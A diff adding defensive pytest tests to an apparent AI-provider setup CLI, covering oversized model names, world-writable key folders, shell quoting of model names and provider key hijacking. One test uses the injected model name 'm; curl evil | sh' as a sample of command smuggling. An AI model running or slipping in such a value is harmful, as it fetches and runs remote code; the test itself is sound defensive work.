@@ -240,6 +240,51 @@ def test_what_a_server_says_cannot_steer_the_terminal(setup):
     assert tomllib.loads(setup.settings.read_text())["model"] == f"ollama/evil{EVIL}"
 
 
+def test_a_very_long_name_of_a_model_does_not_fill_the_screen(setup):
+    with vendor(keyless=True, models=("chat", "x" * 1_000_000)) as local:
+        local.more = {"display_name": "long " * 100_000}
+        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat\n", WRITE, "y\n", arguments=("ollama",))
+
+    assert (done.code, len(done.out) < 5_000) == (0, True)
+
+
+def test_a_folder_in_which_others_can_put_a_key_of_theirs_gets_none(setup):
+    setup.cli.state.mkdir(parents=True, exist_ok=True)
+    setup.cli.state.chmod(0o777)
+
+    done = setup(PROVIDER, "openai\n", KEY, f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n")
+
+    assert (done.code, setup.left) == (2, [])
+    assert (
+        f"others can put files there (mode 0777); see what is in it, then close it: chmod go-w {setup.cli.state}"
+        in (" ".join(done.out.split()))
+    )
+
+
+def test_the_command_to_begin_with_is_one_command_whatever_a_model_is_called(setup):
+    name = "m; curl evil | sh"
+    with vendor(keyless=True, models=(name,)) as local:
+        done = setup(
+            "/v1]: ", f"{local.url}\n", MODEL, "1\n", WRITE, "y\n", arguments=("ollama",), PLUGGENT_MODEL="offline/demo"
+        )
+
+    assert (done.code, done.out.partition(READY)[2]) == (0, f"  pluggent chat --model 'ollama/{name}'\n")
+
+
+def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, server):
+    setup.key.parent.mkdir(parents=True, mode=0o700)
+    kept = setup.key.parent / "anthropic"
+    kept.write_text("sk-of-anthropic\n")
+
+    done = setup(
+        PROVIDER, "7\n", "NAME/MODEL: ", "anthropic\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
+        "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n",
+    )  # fmt: skip
+
+    assert "anthropic is a provider already; take another name." in done.out
+    assert (done.code, kept.read_text()) == (0, "sk-of-anthropic\n")
+
+
 def test_what_is_not_a_url_is_asked_for_again(setup, server):
     done = setup(
         "base_url [", "ftp://x\n", "base_url [", f"{server.url}\n", KEY.replace("): ", ""), CTRL_C,
